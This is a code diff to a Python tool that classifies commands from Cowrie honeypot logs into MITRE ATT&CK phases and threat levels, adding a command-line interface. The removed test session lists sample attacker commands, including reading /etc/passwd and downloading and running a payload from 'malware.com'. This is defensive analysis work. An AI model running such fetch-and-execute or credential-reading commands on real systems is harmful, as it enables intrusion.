@@ -4,8 +4,12 @@ Behavioral Analytics - MITRE ATT&CK Mapping
 Clusters commands into attack phases
 """
 
+import sys
 import json
-from collections import defaultdict
+import argparse
+from collections import Counter, defaultdict
+
+import pipeline_profile
 
 class BehavioralAnalytics:
     def __init__(self):
@@ -86,23 +90,55 @@ class BehavioralAnalytics:
         else:
             return 'low'
 
-if __name__ == "__main__":
+def classify_logs(paths):
+    """Per-session analysis of every command in Cowrie logs or event spools"""
+    from event_records import iter_events
+    from log_scan import Predicate
     analytics = BehavioralAnalytics()
-    
-    # Test session
-    test_commands = [
-        'uname -a',
-        'cat /etc/passwd',
-        'wget http://malware.com/payload',
-        'chmod +x payload',
-        './payload'
-    ]
-    
-    print("Command Classifications:")
-    for cmd in test_commands:
-        result = analytics.classify_command(cmd)
-        print(f"{cmd}: {result}")
-    
-    print("\nSession Analysis:")
-    session_analysis = analytics.analyze_session(test_commands)
-    print(json.dumps(session_analysis, indent=2))
+    sessions = defaultdict(list)
+    for event in iter_events(paths, Predicate(eventids=['cowrie.command.input'])):
+        if event.get('input'):
+            sessions[event.get('session')].append(event.get('input'))
+    return {session: analytics.analyze_session(commands) for session, commands in sessions.items()}
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description='Classify attacker commands into MITRE ATT&CK phases')
+    parser.add_argument('commands', nargs='*', help='Commands of one session (default: one per line from stdin)')
+    parser.add_argument('--log', nargs='+', help='Analyze every session in these Cowrie logs / spools instead')
+    pipeline_profile.add_arguments(parser)
+    args = parser.parse_args(argv)
+
+    with pipeline_profile.profiled(args, "behavioral_analytics"):
+        if args.log:
+            results = classify_logs(args.log)
+            levels = Counter(r['threat_level'] for r in results.values())
+            phases = Counter(p for r in results.values() for p in r['attack_progression'])
+            print(f"Sessions with commands: {len(results)}")
+            print(f"\n{'Threat level':<20} {'Sessions':>10}")
+            for level in ('critical', 'high', 'medium', 'low'):
+                print(f"{level:<20} {levels[level]:>10}")
+            print(f"\n{'Phase':<20} {'Sessions':>10}")
+            for phase, count in phases.most_common():
+                print(f"{phase:<20} {count:>10}")
+            return
+
+        if not args.commands and sys.stdin.isatty():
+            # Nothing piped in: don't sit waiting on the terminal
+            parser.print_usage(sys.stderr)
+            return 2
+        commands = args.commands or [line.strip() for line in sys.stdin if line.strip()]
+        analytics = BehavioralAnalytics()
+
+        print("Command Classifications:")
+        for cmd in commands:
+            result = analytics.classify_command(cmd)
+            print(f"{cmd}: {result}")
+
+        print("\nSession Analysis:")
+        session_analysis = analytics.analyze_session(commands)
+        print(json.dumps(session_analysis, indent=2))
+
+
+if __name__ == "__main__":
+    sys.exit(main())